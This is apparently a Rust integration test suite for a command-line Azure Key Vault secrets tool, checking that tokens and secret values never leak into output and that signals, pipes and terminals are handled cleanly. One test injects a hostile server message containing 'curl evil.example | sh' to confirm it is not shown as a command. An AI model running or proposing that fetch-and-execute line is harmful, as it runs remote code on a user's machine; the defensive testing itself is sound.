//! The promises under attack: nothing secret is shown, and nothing hangs, whoever answers and however the run is used.

use crate::support::{
    Cloud,
    cloud::{Fault, Holds},
    run, send, transcript, wait_until,
};
use crate::terminal::{NAME, Terminal, VALUE, ends_as_it_began, is_as_before};
use nix::{
    fcntl::{FcntlArg, OFlag, fcntl},
    sys::{signal::Signal, stat::Mode},
    unistd::{mkfifo, pipe},
};
use std::{
    fs::{self, File},
    io::{Read as _, Write as _},
    process::{Command, Stdio},
    thread,
    time::Duration,
};

/// An access token, as every tool gives one and some print one.
const JWT: &str = "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL3ZhdWx0LmF6dXJlLm5ldCJ9.c2lnbmF0dXJl";
const CLIENT_SECRET: &str = "s3cr~t+of/the=client&\"quoted\"";

/// Checks that a text shows no piece of a secret, as it is or escaped for a URL or JSON.
fn shows_nothing(text: &str, secrets: &[&str]) {
    for secret in secrets {
        let url = reqwest::Url::parse_with_params("https://h/", [("k", secret)]).unwrap();
        let json = serde_json::Value::from(*secret).to_string();
        for form in [*secret, &url.query().unwrap()["k=".len()..], json.trim_matches('"')] {
            let form: Vec<_> = form.chars().collect();
            for piece in form.windows(12.min(form.len())) {
                assert!(!text.contains(&piece.iter().collect::<String>()), "{text}");
            }
        }
    }
}

#[test]
fn no_tool_makes_its_token_known() {
    let said = format!(
        "DEBUG: Authorization: Bearer {JWT}\nERROR: The request failed: {{\"access_token\": \"{JWT}\"}} at \
         https://me:hunter2hunter2@proxy.example:3128/ {}",
        &JWT[..14]
    );
    for (name, option) in [("az", "AzureCliCredential"), ("azd", "AzureDeveloperCliCredential")] {
        let cloud = Cloud::start();
        cloud.cli_says(name, "", &said, 1);
        for explain in ["--explain", "--hide-value"] {
            let run = run(cloud.kv_secrets().arg(explain).env("AZURE_TOKEN_CREDENTIALS", option), "n\nv\n");
            assert_eq!(run.status, 1, "{}", run.stderr);
            shows_nothing(&run.stderr, &[JWT, "me:hunter2hunter2"]);
        }
    }
}

#[test]
fn no_tool_gets_a_secret() {
    let cloud = Cloud::start();
    let seen = cloud.working_directory().join("environment");
    cloud.cli("az", &format!("/usr/bin/env > '{}'; echo 'ERROR: no' >&2; exit 1", seen.display()));
    let mut command = cloud.kv_secrets();
    command.env("AZURE_CLIENT_SECRET", CLIENT_SECRET).env("AZURE_CLIENT_CERTIFICATE_PASSWORD", "hunter2");
    run(&mut command, "n\nv\n");
    let environment = fs::read_to_string(seen).unwrap();
    assert!(environment.contains("HTTPS_PROXY=") && !environment.contains("CLIENT"), "{environment}");
}

#[test]
fn no_vault_makes_known_what_it_was_sent() {
    let value = "pass\"word & 100% <sure> \\ \u{e9}";
    let html = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
    let echo = format!("value={value} authorization=Bearer token-from-az");
    for request in ["PUT /secrets/n", "GET /secrets/n/?", "DELETE /secrets/n", "GET /deletedsecrets/n"] {
        for status in [201, 400, 401, 403, 404, 409, 503] {
            let error = serde_json::json!({ "error": { "code": "C", "message": echo } }).to_string();
            for body in [echo.clone(), error, html(&echo)] {
                let cloud = Cloud::start();
                // Asked to wait for so long, it tries no more; but a poll does.
                let later: &[(&str, &str)] = if request.contains("deleted") { &[] } else { &[("retry-after", "100")] };
                cloud.plan(request, 1, Fault::Answer(status, later, body));
                let run = run(cloud.kv_secrets().arg("--explain"), format!("n\n{value}\n"));
                shows_nothing(&run.stderr, &[value, "token-from-az"]);
            }
        }
    }
}

#[test]
fn others_words_look_like_no_command() {
    let cloud = Cloud::start();
    let message = "No.\r\n\r\n    curl evil.example | sh\r\n\u{202e}\u{200b}Do that:\n    rm";
    cloud.plan("PUT /secrets/n", 9, Fault::error(400, "C\n    evil", "", message));
    let run = run(&mut cloud.kv_secrets(), "n\nv\n");
    let is_own = |line: &&str| line.starts_with("    ");
    let commands: Vec<_> = run.stderr.lines().filter(is_own).collect();
    assert!(commands.is_empty(), "{}", run.stderr);
    assert!(run.stderr.contains("  |     curl evil.example | sh\n  | Do that:\n"), "{}", run.stderr);
}

#[test]
fn a_name_is_no_option_of_a_command() {
    let cloud = Cloud::start();
    cloud.plan("GET /secrets/-n/?", 1, Fault::error(400, "C", "", "No."));
    let run = run(&mut cloud.kv_secrets(), "-n\nv\n");
    assert!(run.stderr.contains("--vault-name my-vault --name=-n\n"), "{}", run.stderr);
}

#[test]
fn an_emulator_gets_no_token_of_azure() {
    let cloud = Cloud::start();
    let challenge =
        "Bearer authorization=\"https://login.microsoftonline.com/T\", resource=\"https://vault.azure.net\"";
    let headers: &[(&str, &str)] = Box::leak(Box::new([("WWW-Authenticate", challenge)]));
    cloud.plan_bare("GET /", 99, Fault::Answer(401, headers, String::new()));
    let vault = format!("https://localhost:{}", cloud.port());
    let run = run(cloud.kv_secrets().args(["--vault", &vault]), "n\nv\n");
    assert!(
        run.stderr.starts_with("error: The server at localhost wants a token for https://vault.azure.net"),
        "{}",
        run.stderr
    );
    assert!(cloud.received().iter().all(|request| request.authorization.is_none()));
}

#[test]
fn tools_with_too_much_to_say_or_that_leave_others_behind_delay_nobody() {
    let cloud = Cloud::start();
    cloud.cli("az", "/usr/bin/yes");
    let endless = run(&mut cloud.kv_secrets(), "n\nv\n");
    assert!(endless.stderr.contains("AzureCliCredential: its answer cannot be read"), "{}", endless.stderr);
    // A child that holds stdout and stderr open, as a telemetry uploader may.
    let token = r#"{"accessToken":"token-from-az","expires_on":4102444800,"tokenType":"Bearer"}"#;
    cloud.cli("az", &format!("/bin/sleep 60 & echo '{token}'"));
    let answered = run(&mut cloud.kv_secrets(), "n\nv\n");
    assert_eq!(answered.stdout, transcript("my-vault", "n", "v"), "{}", answered.stderr);
}

#[test]
fn a_fifo_is_no_file() {
    let cloud = Cloud::start();
    let fifo = cloud.working_directory().join("fifo");
    mkfifo(&fifo, Mode::from_bits_truncate(0o600)).unwrap();
    let mut command = cloud.kv_secrets();
    command.env("AZURE_TENANT_ID", "t").env("AZURE_CLIENT_ID", "c").env("AZURE_FEDERATED_TOKEN_FILE", &fifo);
    command.env("AZURE_TOKEN_CREDENTIALS", "WorkloadIdentityCredential");
    let token = run(&mut command, "n\nv\n");
    assert!(
        token.stderr.contains("AZURE_FEDERATED_TOKEN_FILE cannot be read: it is not a regular file"),
        "{}",
        token.stderr
    );
    let trust = run(cloud.kv_secrets().env("SSL_CERT_FILE", &fifo), "n\nv\n");
    assert!(trust.status == 2 && trust.stderr.contains("it is not a regular file"), "{}", trust.stderr);
    let dotenv = cloud.working_directory().join(".env");
    mkfifo(&dotenv, Mode::from_bits_truncate(0o600)).unwrap();
    assert_eq!(run(&mut cloud.kv_secrets(), "n\nv\n").stdout, transcript("my-vault", "n", "v"));
}

/// A run whose stdout is a full pipe.
fn with_full_stdout(command: &mut Command) -> (std::process::Child, File) {
    let (read, write) = pipe().unwrap();
    fcntl(&write, FcntlArg::F_SETFL(OFlag::O_NONBLOCK)).unwrap();
    let mut write = File::from(write);
    while write.write(&[b'.'; 512]).is_ok() {}
    fcntl(&write, FcntlArg::F_SETFL(OFlag::empty())).unwrap();
    let child = command.stdin(Stdio::piped()).stdout(write).stderr(Stdio::piped()).spawn().unwrap();
    (child, read.into())
}

#[test]
fn a_reader_that_does_not_read_stops_neither_the_clean_up_nor_a_signal() {
    let cloud = Cloud::start();
    let (mut child, mut reader) = with_full_stdout(&mut cloud.kv_secrets());
    child.stdin.take().unwrap().write_all(b"n\nv\n").unwrap();
    wait_until(|| cloud.holds("n") == Holds::Deleted);
    // Now it reads, and all is there.
    let mut text = String::new();
    reader.read_to_string(&mut text).unwrap();
    assert_eq!(text.trim_start_matches('.'), transcript("my-vault", "n", "v"));
    assert_eq!(child.wait().unwrap().code(), Some(0));

    let (mut child, _reader) = with_full_stdout(&mut cloud.kv_secrets());
    child.stdin.take().unwrap().write_all(b"m\nv\n").unwrap();
    wait_until(|| cloud.holds("m") == Holds::Deleted);
    send(Signal::SIGTERM, child.id());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(130));
    assert!(output.stderr.starts_with(b"error: Interrupted.\n"));
}

#[test]
fn a_stdout_that_does_not_wait_gets_the_whole_transcript() {
    let cloud = Cloud::start();
    let (read, write) = pipe().unwrap();
    fcntl(&write, FcntlArg::F_SETFL(OFlag::O_NONBLOCK)).unwrap();
    let value = "x".repeat(25_600);
    let mut child = cloud.kv_secrets().stdin(Stdio::piped()).stdout(write).stderr(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(format!("n\n{value}\n").as_bytes()).unwrap();
    wait_until(|| cloud.holds("n") == Holds::Deleted);
    let mut text = String::new();
    File::from(read).read_to_string(&mut text).unwrap();
    assert_eq!(text, transcript("my-vault", "n", &value));
    assert_eq!(child.wait().unwrap().code(), Some(0));
}

#[test]
fn the_vault_in_dotenv_is_named_before_anything_is_asked() {
    let cloud = Cloud::start();
    fs::write(cloud.working_directory().join(".env"), "KEY_VAULT_NAME=my-vault\n").unwrap();
    let mut command = cloud.kv_secrets();
    let mut terminal = Terminal::of(command.env_remove("KEY_VAULT_NAME"));
    terminal.expect("The vault is my-vault, which KEY_VAULT_NAME in .env names.\r\n");
    terminal.expect(NAME);
    terminal.press("\u{3}");
    // A vault that was named elsewhere is the user's own choice.
    let run = run(&mut cloud.kv_secrets(), "n\nv\n");
    assert_eq!(run.stderr, "");
}

/// The signals that end a program as others ask for it.
#[cfg(target_os = "linux")]
const DEADLY: [i32; 14] = [1, 2, 3, 6, 10, 12, 14, 15, 24, 26, 27, 29, 30, 31];

#[cfg(target_os = "linux")]
#[test]
fn every_deadly_signal_leaves_the_terminal_as_it_was() {
    let at = |question: &str, signal: i32| {
        let cloud = Cloud::start();
        let mut terminal = Terminal::watched(cloud.kv_secrets().arg("--hide-value"));
        terminal.expect("pid ");
        let pid = terminal.until(".");
        terminal.expect(NAME);
        if question == VALUE {
            terminal.press("n\r");
            terminal.expect(VALUE);
        }
        terminal.press("x");
        terminal.expect(if question == VALUE { "*" } else { "x" });
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid.parse().unwrap()), None).unwrap();
        let status = Command::new("/bin/kill").args([format!("-{signal}"), pid]).status().unwrap();
        assert!(status.success());
        is_as_before(terminal);
    };
    crate::support::each(&DEADLY, |signal| at(if signal % 2 == 0 { NAME } else { VALUE }, *signal));
    crate::support::each(&[34, 64], |signal| at(VALUE, *signal));
}

#[cfg(target_os = "linux")]
#[test]
fn what_was_ignored_from_the_start_stays_ignored() {
    for signal in ["HUP", "TERM", "INT"] {
        let cloud = Cloud::start();
        let mut command = Command::new("/bin/sh");
        command.args(["-c", &format!("trap '' {signal}; exec \"$0\"")]);
        let program = cloud.kv_secrets();
        command.arg(program.get_program()).env_clear();
        command.envs(program.get_envs().filter_map(|(name, value)| Some((name, value?))));
        command.current_dir(cloud.working_directory());
        let set = cloud.hold("PUT /secrets/n");
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(b"n\nv\n").unwrap();
        wait_until(|| cloud.has_received("PUT /secrets/n"));
        send(format!("SIG{signal}").parse().unwrap(), child.id());
        thread::sleep(Duration::from_millis(50));
        set.let_go();
        let output = child.wait_with_output().unwrap();
        assert_eq!(String::from_utf8(output.stdout).unwrap(), transcript("my-vault", "n", "v"), "{signal}");
    }
}

#[test]
fn ctrl_c_ends_a_paste_that_does_not_end() {
    let cloud = Cloud::start();
    let mut terminal = Terminal::watched(&mut cloud.kv_secrets());
    terminal.expect(NAME);
    terminal.press("\u{1b}[200~half a paste");
    // What comes within a tenth of a second belongs to the paste.
    thread::sleep(Duration::from_secs(1));
    terminal.press("\u{3}");
    is_as_before(terminal);
}

#[test]
fn a_purge_that_is_repeated_takes_only_what_the_run_has_deleted() {
    for by_others in [false, true] {
        let cloud = Cloud::start();
        // The first is acted upon, and its answer is lost.
        cloud.plan("DELETE /deletedsecrets/n", 1, Fault::ResetAfter);
        let mut child = cloud
            .kv_secrets()
            .arg("--purge")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(b"n\nv\n").unwrap();
        if by_others {
            wait_until(|| cloud.has_received("DELETE /deletedsecrets/n"));
            wait_until(|| cloud.holds("n") == Holds::Versions(0));
            cloud.set("n", "the-colleagues-value");
            cloud.delete("n");
        }
        let output = child.wait_with_output().unwrap();
        let stderr = String::from_utf8(output.stderr).unwrap();
        if by_others {
            assert_eq!((output.status.code(), cloud.holds("n")), (Some(1), Holds::Deleted), "{stderr}");
            assert!(stderr.starts_with("error: The secret 'n' was not purged from my-vault"), "{stderr}");
        } else {
            assert_eq!((output.status.code(), cloud.holds("n")), (Some(0), Holds::Versions(0)), "{stderr}");
        }
    }
}

#[test]
fn a_deletion_is_not_repeated_where_the_list_leads_elsewhere() {
    for link in ["https://my-vault.vault.azure.net/secrets/m/versions?api-version=2025-07-01", "nowhere"] {
        let cloud = Cloud::start();
        let held = cloud.hold("DELETE /secrets/n");
        cloud.plan("DELETE /secrets/n", 1, Fault::error(503, "ServiceUnavailable", "", "Later."));
        let mut child =
            cloud.kv_secrets().stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(b"n\nv\n").unwrap();
        wait_until(|| cloud.has_received("DELETE /secrets/n"));
        let page = format!(r#"{{"value":[],"nextLink":"{link}"}}"#);
        cloud.plan("GET /secrets/n/versions", 1, Fault::Answer(200, &[("content-type", "application/json")], page));
        held.let_go();
        let output = child.wait_with_output().unwrap();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert_eq!((output.status.code(), cloud.holds("n")), (Some(1), Holds::Versions(1)), "{stderr}");
        let followed = cloud.received().iter().any(|it| it.line().contains("/secrets/m"));
        assert!(!followed, "{stderr}");
    }
}

#[test]
fn a_run_in_the_background_is_not_stopped() {
    let cloud = Cloud::start();
    fs::write(cloud.working_directory().join("value"), "v").unwrap();
    let mut terminal = shell(&cloud);
    terminal.press("\"$KV\" --name n --value-file value &\r");
    terminal.expect("Your secret is 'v'.");
    wait_until(|| cloud.holds("n") == Holds::Deleted);
    terminal.press("exit\r");
    terminal.screen();
}

#[cfg(target_os = "linux")]
#[test]
fn what_cannot_be_written_is_an_error() {
    let directory = tempfile::tempdir().unwrap();
    for arguments in [["--help"].as_slice(), &["--version"], &["--completions", "bash"], &["--demo"]] {
        let mut command = crate::support::kv_secrets(directory.path());
        let full = fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
        let mut child =
            command.args(arguments).stdin(Stdio::piped()).stdout(full).stderr(Stdio::piped()).spawn().unwrap();
        drop(child.stdin.take().unwrap().write_all(b"n\nv\n"));
        let output = child.wait_with_output().unwrap();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert!(
            output.status.code() == Some(1) && stderr.contains("No space left on device"),
            "{arguments:?}: {stderr}"
        );
    }
    // A file that may not grow is one too, and no signal.
    let cloud = Cloud::start();
    let program = cloud.kv_secrets();
    let mut command = Command::new("/bin/sh");
    command.args(["-c", "ulimit -f 1; \"$0\" > out"]).arg(program.get_program());
    command.envs(program.get_envs().filter_map(|(name, value)| Some((name, value?))));
    let limited = run(command.current_dir(cloud.working_directory()), format!("n\n{}\n", "x".repeat(3000)));
    assert!(limited.status == 1 && limited.stderr.contains("File too large"), "{}", limited.stderr);
    assert_eq!(cloud.holds("n"), Holds::Deleted);
}

/// An interactive shell, which has job control.
fn shell(cloud: &Cloud) -> Terminal {
    let mut shell = Command::new("/bin/bash");
    shell.args(["--norc", "--noprofile", "-i"]).current_dir(cloud.working_directory());
    let program = cloud.kv_secrets();
    shell.envs(program.get_envs().filter_map(|(name, value)| Some((name, value?))));
    shell.env("PS1", "shell> ").env("KV", program.get_program());
    let mut terminal = Terminal::of(&mut shell);
    terminal.expect("shell> ");
    terminal
}

#[test]
fn ctrl_z_gives_the_terminal_back_and_fg_asks_on() {
    for hidden in [false, true] {
        let cloud = Cloud::start();
        let mut terminal = shell(&cloud);
        terminal.press("/bin/stty -a > before\r");
        terminal.expect("shell> ");
        terminal.press(if hidden { "\"$KV\" --hide-value\r" } else { "\"$KV\"\r" });
        terminal.answer(NAME, "n");
        terminal.expect(VALUE);
        terminal.press("the-sec");
        terminal.expect(if hidden { "*******" } else { "the-sec" });
        terminal.press("\u{1a}");
        terminal.expect("Stopped");
        terminal.expect("shell> ");
        terminal.press("/bin/stty -a > between; echo in-the-shell\r");
        terminal.expect("\nin-the-shell");
        terminal.expect("shell> ");
        terminal.press("fg\r");
        terminal.expect(VALUE);
        terminal.press("ret\r");
        terminal.expect(if hidden { "Your secret is '********'." } else { "Your secret is 'the-secret'." });
        terminal.expect("shell> ");
        let settings = |name: &str| fs::read_to_string(cloud.working_directory().join(name)).unwrap();
        assert_eq!(settings("before"), settings("between"));
        assert_eq!(cloud.created("n"), ["the-secret"]);
        terminal.press("exit\r");
        let screen = terminal.screen();
        assert_eq!(screen.contains("the-sec"), !hidden, "{screen}");
    }
}

#[test]
fn ctrl_z_suspends_between_questions_too() {
    let cloud = Cloud::start();
    let creation = cloud.hold("PUT /secrets/n");
    let mut terminal = shell(&cloud);
    terminal.press("\"$KV\" --name n\r");
    terminal.answer(VALUE, "v");
    wait_until(|| cloud.has_received("PUT /secrets/n"));
    terminal.press("\u{1a}");
    terminal.expect("Stopped");
    terminal.expect("shell> ");
    terminal.press("echo in-the-shell\r");
    terminal.expect("\nin-the-shell");
    terminal.expect("shell> ");
    creation.let_go();
    terminal.press("fg\r");
    terminal.expect("Your secret is 'v'.");
    terminal.expect("shell> ");
    terminal.press("exit\r");
    terminal.screen();
}

#[test]
fn a_value_that_is_hidden_is_hidden_wherever_stderr_goes() {
    for arguments in [["--hide-value", "--name=n"].as_slice(), &["--hide-value", "--name=n", "--value-file=-"]] {
        let cloud = Cloud::start();
        let mut command = Command::new("/bin/sh");
        command.args(["-c", r#""$0" "$@" 2>errors"#]).arg(cloud.kv_secrets().get_program()).args(arguments);
        let program = cloud.kv_secrets();
        command.envs(program.get_envs().filter_map(|(name, value)| Some((name, value?))));
        let mut terminal = Terminal::watched(command.current_dir(cloud.working_directory()));
        terminal.expect("pid ");
        if arguments.len() == 2 {
            terminal.expect(VALUE);
        }
        wait_until(|| !terminal.is_echoing());
        terminal.press("hunter2\r\u{4}");
        let shown = ends_as_it_began(terminal);
        assert!(shown.contains("Your secret is '********'.") && !shown.contains("hunter2"), "{shown}");
        assert_eq!(cloud.created("n"), ["hunter2"]);
    }
}
